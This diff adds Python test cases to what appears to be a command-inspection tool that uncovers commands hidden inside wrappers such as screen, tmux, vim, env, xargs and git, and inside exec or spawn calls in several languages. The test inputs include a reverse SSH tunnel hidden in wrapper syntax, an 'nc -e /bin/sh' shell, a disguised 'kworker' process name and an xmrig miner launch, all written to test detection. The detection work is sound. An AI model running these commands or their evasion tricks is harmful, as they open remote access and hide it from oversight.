@@ -492,3 +492,86 @@ def test_clustered_options_before_a_value_in_bash_and_ssh():
     reader.read("printf 'Host *\\n  RemoteForward 2222 localhost:22\\n' > /tmp/cfg", session)
     cmds = [c for c in reader.read("ssh -qF /tmp/cfg -N u@203.0.113.4", session) if c.name == "ssh"]
     assert len(cmds) == 2 and cmds[1].args == ["-oremoteforward=2222 localhost:22", "-N", "u@203.0.113.4"]
+
+
+# -- programs that run a command given to them in their own syntax ---------------------------------
+TUNNEL = "ssh -fNR 4444:localhost:22 a@203.0.113.7"
+
+
+@pytest.mark.parametrize("text", [
+    f"screen -dmS t {TUNNEL}",                                  # -S takes a name: the command follows it
+    f"screen -d -m -S t {TUNNEL}",
+    f"screen -S t -X stuff '{TUNNEL}\\n'",                      # typed into a running session's shell
+    f"screen -S t -X exec {TUNNEL}",
+    f"tmux new -d -s work '{TUNNEL}'",                          # -s takes a name
+    f"tmux new-session -d -s a \\; send-keys '{TUNNEL}' C-m",  # a second tmux command types it
+    f"tmux send-keys -t work '{TUNNEL}' Enter",
+    f"tmux -c '{TUNNEL}'",
+    f"tmux run-shell -b '{TUNNEL}'",
+    f"parallel ::: '{TUNNEL}'",                                 # no command: each argument is one
+    f"parallel -j 2 sh -c ::: '{TUNNEL}'",
+    f"echo '{TUNNEL}' | parallel",
+    f"vim -c ':!{TUNNEL}' -c ':q' notes.txt",
+    f"nvim +'silent !{TUNNEL}' +q",
+    f"vi -c 'call system(\"{TUNNEL}\")'",
+    f"env -S '{TUNNEL}'",                                       # env splits the string into words
+    f"env -iS'{TUNNEL}'",
+    f"env --split-string='{TUNNEL}'",
+    f"script -qc '{TUNNEL}' /dev/null",                         # -q -c, clustered
+    f"su -lc '{TUNNEL}' agent",
+    f"flock -n /tmp/l -c '{TUNNEL}'",
+    f"printf '{TUNNEL}\\0' | xargs -0I{{}} sh -c '{{}}'",       # -0 -I{}, clustered
+    f"echo '{TUNNEL}' | xargs -0 -I {{}} sh -c {{}}",
+    f"S='{TUNNEL}'; git --config-env=core.sshCommand=S fetch",  # git reads the setting from $S
+    f"export S='{TUNNEL}'; git --config-env core.sshCommand=S pull",
+])
+def test_commands_given_in_a_programs_own_syntax_are_read(text):
+    ssh = find(text, "ssh")
+    assert ssh.args[:2] == ["-fNR", "4444:localhost:22"]
+    assert [e.host for e in ssh.endpoints] == ["203.0.113.7"]
+
+
+@pytest.mark.parametrize("text", [
+    "screen -r main", "screen -d main", "screen -ls", "screen -x", "tmux attach -t work",
+    "tmux new -d -s work", "script -q /dev/null", "script log.txt", "su - root",
+    "vim +10 notes.txt", "vim +/pattern notes.txt", "vim -c ':set nu' notes.txt",
+    "parallel --version", "git --config-env=core.sshCommand=UNSET fetch",
+])
+def test_the_same_programs_run_nothing_more_where_nothing_is_given(text):
+    assert len(reader.read(text)) == 1
+
+
+def test_screen_and_tmux_take_their_options_values_apart_from_the_command():
+    assert names("screen -dmS build make -j8") == ["screen", "make"]
+    assert names("tmux new -d -s work -n editor 'python train.py'") == ["tmux", "python"]
+    assert [c.line for c in reader.read("parallel gzip ::: a.txt 'b c.txt'")][1:] == ["gzip a.txt", "gzip b c.txt"]
+    assert [c.line for c in reader.read("parallel 'cp {} /backup/{}' ::: x")][1:] == ["cp x /backup/x"]
+
+
+def test_a_wrappers_clustered_options_take_their_value_from_the_next_word():
+    assert [c.line for c in reader.read("sudo -Eu root id")] == ["sudo -Eu root id", "id"]
+    assert names("echo a b | xargs -0I {} echo {}")[-1] == "echo"
+    assert [c.line for c in reader.read("printf 'a\\0b\\0' | xargs -0n1 echo")][-2:] == ["echo a", "echo b"]
+
+
+@pytest.mark.parametrize("code, argv", [
+    ("import os; os.execvp('ssh', ['ssh', '-fNR', '1:l:22', 'h'])", ["ssh", "-fNR", "1:l:22", "h"]),
+    ("import os; os.execv('/usr/bin/ssh', ['kworker', '-R', '1:l:22', 'h'])", ["/usr/bin/ssh", "-R", "1:l:22", "h"]),
+    ("import os; os.execl('/usr/bin/nc', 'nc', '-e', '/bin/sh', 'h', '4')", ["/usr/bin/nc", "-e", "/bin/sh", "h", "4"]),
+    ("import os; os.spawnlp(os.P_NOWAIT, 'xmrig', 'xmrig', '-o', 'p:3333')", ["xmrig", "-o", "p:3333"]),
+    ("from os import posix_spawnp; posix_spawnp('ssh', ['ssh', '-R', '1:l:22', 'h'], {})", ["ssh", "-R", "1:l:22", "h"]),
+])
+def test_python_exec_and_spawn_run_their_program_with_its_argument_list(code, argv):
+    cmds = reader.read_code("python", code)
+    assert [cmds[-1].path, *cmds[-1].args] == argv
+
+
+@pytest.mark.parametrize("lang, code", [
+    ("perl", 'exec "ssh", "-fNR", "1:l:22", "a\\@h"'),
+    ("ruby", 'system("ssh", "-fNR", "1:l:22", "a@h")'),
+    ("node", "require('child_process').spawn('ssh', ['-fNR', '1:l:22', 'a@h'])"),
+    ("php", "proc_open(['ssh', '-fNR', '1:l:22', 'a@h'], [], $p);"),
+])
+def test_other_languages_argument_lists_are_read_as_one_command(lang, code):
+    ssh = next(c for c in reader.read_code(lang, code) if c.name == "ssh" and c.args)
+    assert ssh.args == ["-fNR", "1:l:22", "a@h"]
